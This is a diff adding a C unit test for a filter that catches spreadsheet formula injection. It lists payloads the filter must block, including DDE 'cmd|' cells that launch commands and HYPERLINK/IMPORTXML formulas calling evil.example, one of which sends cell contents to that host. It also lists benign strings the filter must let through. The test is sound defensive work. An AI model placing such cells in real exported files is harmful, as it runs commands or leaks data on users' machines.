@@ -1,0 +1,76 @@
+/** Cells that a spreadsheet runs, and signs at the beginning of ordinary texts. */
+#include "tests/unit/filter_case.h"
+
+static struct filter_case it;
+
+static int set_up(void **state)
+{
+    (void)state;
+    filter_case_open(&it, NULL);
+    return 0;
+}
+
+static int tear_down(void **state)
+{
+    (void)state;
+    filter_case_close(&it);
+    return 0;
+}
+
+static void blocks_cells_that_reach_out(void **state)
+{
+    (void)state;
+    static const struct filter_row rows[] = {
+        {"dynamic data exchange", PEN_STR("=cmd|'/c calc'!A0")},
+        {"behind a sum", PEN_STR("=1+2+cmd|' /C calc'!A0")},
+        {"at sign", PEN_STR("@SUM(1+1)*cmd|' /C calc'!A0")},
+        {"spaces", PEN_STR("= c m d | ' / c  calc ' ! A 1")},
+        {"plus", PEN_STR("+cmd|'/c x'!A")},
+        {"minus", PEN_STR("-2+3+cmd|'/c x'!A")},
+        {"hyperlink", PEN_STR("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")},
+        {"import", PEN_STR("=IMPORTXML(\"http://evil.example/\",\"//a\")")},
+        {"in quotes", PEN_STR("\"=WEBSERVICE(A1)\"")},
+        {"a later call", PEN_STR("=A1+IMPORTDATA(\"http://evil.example\")")},
+    };
+    filter_case_blocks(&it, "formula", rows, PEN_COUNT_OF(rows));
+}
+
+static void stays_silent_on_signs_of_ordinary_texts(void **state)
+{
+    (void)state;
+    static const struct filter_row rows[] = {
+        {"negative", PEN_STR("-12.50")},
+        {"telephone", PEN_STR("+49 30 1234567")},
+        {"mention", PEN_STR("@alice see this")},
+        {"bullet", PEN_STR("- fix(parser): handle NUL")},
+        {"arrow", PEN_STR("=> next")},
+        {"heading", PEN_STR("== Title ==")},
+        {"smiley", PEN_STR("=)")},
+        {"diff", PEN_STR("+int main(void)")},
+        {"plus one", PEN_STR("+1")},
+        {"CSS", PEN_STR("-webkit-box(flex)")},
+        {"pipes", PEN_STR("a | 'b' ! c")},
+    };
+    filter_case_passes(&it, "formula", rows, PEN_COUNT_OF(rows));
+}
+
+static void weighs_these_only_for_the_sink(void **state)
+{
+    (void)state;
+    static const struct filter_row rows[] = {
+        {"a sum", PEN_STR("=SUM(A1:A9)")},
+        {"arithmetic", PEN_STR("=1+1")},
+        {"spaces before", PEN_STR("  =AVERAGE(B2)")},
+    };
+    filter_case_needs_sink("formula", PEN_S("spreadsheet"), rows, PEN_COUNT_OF(rows));
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(blocks_cells_that_reach_out),
+        cmocka_unit_test(stays_silent_on_signs_of_ordinary_texts),
+        cmocka_unit_test(weighs_these_only_for_the_sink),
+    };
+    return cmocka_run_group_tests(tests, set_up, tear_down);
+}
